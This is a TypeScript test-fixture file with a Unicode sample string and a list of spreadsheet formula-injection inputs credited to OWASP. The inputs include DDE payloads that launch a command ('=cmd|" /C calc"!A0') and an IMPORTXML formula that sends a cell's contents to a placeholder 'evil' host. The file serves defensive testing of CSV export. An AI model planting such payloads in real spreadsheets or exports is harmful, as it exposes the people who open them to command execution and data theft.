/** One character from every Unicode plane that has any (0–3, 14–16), plus controls PostgreSQL allows in text. */
export const EVERY_PLANE =
  'A é 中 \u{10348} \u{1F600} \u{20000} \u{30000} \u{E0041} \u{F0000} \u{10FFFD} \u0001\u001f\u007f \u2028\u2029 \uFEFF';

/**
 * Text that spreadsheets mistake for formulas or split into cells: OWASP's
 * payloads, separators a CSV import dialog splits on, formulas behind
 * whitespace, phone numbers, numbers-as-text.
 */
export const SPREADSHEET_PAYLOADS = [
  '=1+1',
  '=cmd|" /C calc"!A0',
  '@IMPORTXML(CONCAT("http://evil/?", A1))',
  '+1+1',
  '-2+3+cmd|" /C calc"!A0',
  '\tTAB\rCR',
  'x;=1+1',
  'a\t=2+2',
  ' =1+1',
  '\t=1+1',
  '\r\n=1+1',
  '+15551234567',
  '+44 20 7946 0958',
  '-12.5',
  '007',
  'line one\r\nline two\r\n"quoted", comma',
  'über, 中文; ✓',
] as const;
